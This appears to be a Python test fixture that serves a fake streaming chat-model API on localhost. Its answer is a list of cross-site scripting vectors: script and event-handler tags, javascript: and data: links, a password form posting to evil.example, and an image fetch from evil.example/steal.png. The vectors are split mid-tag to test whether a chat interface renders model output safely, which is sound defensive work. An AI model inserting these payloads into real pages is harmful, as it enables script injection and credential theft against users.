"""A model whose answers attack the page that shows them."""

from __future__ import annotations

import json
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

MODEL = "gpt-4o-mini"
PAYLOAD = """Here you are:

<script>window.attacked = 1</script>
<img src=x onerror="window.attacked = 1">
<svg onload="window.attacked = 1"></svg>
<iframe srcdoc="<script>parent.attacked = 1</script>"></iframe>
<details open ontoggle="window.attacked = 1">x</details>
<style>body { display: none }</style>
<form action="https://evil.example"><input name=password></form>

[click](javascript:window.attacked=1) [data](data:text/html,<script>window.attacked=1</script>)
![picture](https://evil.example/steal.png) <a href="javascript:window.attacked=1">a</a>
<https://evil.example/?q=1>

```html
<script>window.attacked = 1</script>
```

| a | b |
|---|---|
| <img src=x onerror="window.attacked = 1"> | `<b>` |

The end of it."""


class _Model(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self._begin("application/json")
        self.wfile.write(json.dumps({"object": "list", "data": [{"id": MODEL}]}).encode())

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["content-length"]))
        self._begin("text/event-stream")
        # Cut where a tag is open, over and over.
        for at in range(0, len(PAYLOAD), 7):
            self._say({"choices": [{"index": 0, "delta": {"content": PAYLOAD[at : at + 7]}}]})
        self._say({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
        usage = {"prompt_tokens": 10, "completion_tokens": 100, "total_tokens": 110}
        self._say({"choices": [], "usage": usage})
        self.wfile.write(b"data: [DONE]\n\n")

    def _begin(self, kind: str) -> None:
        self.send_response(200)
        self.send_header("content-type", kind)
        self.end_headers()

    def _say(self, chunk: dict[str, object]) -> None:
        whole = {"id": "1", "object": "chat.completion.chunk", "model": MODEL, **chunk}
        self.wfile.write(f"data: {json.dumps(whole)}\n\n".encode())

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        pass


@contextmanager
def hostile_model() -> Iterator[str]:
    """Serve the model; yield the base URL of its API."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Model)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/v1"
    finally:
        server.shutdown()
        server.server_close()
